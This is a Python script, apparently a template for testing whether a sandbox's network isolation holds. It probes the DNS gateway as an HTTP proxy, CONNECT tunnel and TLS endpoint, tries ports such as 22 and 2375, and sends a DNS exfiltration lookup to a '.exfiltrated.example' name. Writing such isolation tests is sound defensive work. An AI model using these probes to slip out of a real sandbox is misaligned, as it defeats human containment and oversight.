import re
import socket
import ssl

from attempt import PROOF, attempt, greet

GATE = re.findall(r"^nameserver (\S+)", open("/etc/resolv.conf").read(), re.M)[0]


def asked(host, port):
    answer = greet(GATE, port, f"GET http://{host}:@PORT@/{PROOF} HTTP/1.1\r\nHost: {host}\r\n\r\n")
    if not answer:
        raise OSError("closed without an answer")
    return answer


def tunnelled(host):
    answer = greet(GATE, 80, f"CONNECT {host}:@PORT@ HTTP/1.1\r\nHost: {host}\r\n\r\n")
    if not answer:
        raise OSError("closed without an answer")
    return answer


def encrypted(host):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((GATE, 443), 3) as connection:
        return context.wrap_socket(connection, server_hostname=host).version()


def looked_up(name):
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(3)
        datagrams.sendto(query, (GATE, 53))
        answer = datagrams.recv(512)
    if not answer[7]:
        raise OSError(f"no such name (code {answer[3] & 15})")
    return answer


for host in ("@LISTENER@", "@LISTENER_NAME@", "host.docker.internal", "localhost", "127.0.0.1"):
    attempt(f"the gate for {host}", lambda: asked(host, 80))
    attempt(f"the gate as a tunnel to {host}", lambda: tunnelled(host))
    attempt(f"the gate for {host}, encrypted", lambda: encrypted(host))
for name in ("@LISTENER_NAME@", f"{PROOF.lower()}.exfiltrated.example"):
    attempt(f"the gate's names for {name}", lambda: looked_up(name))
for port in (22, 53, 2375, 8080, @PORT@):
    attempt(f"the gate at port {port}", lambda: greet(GATE, port))
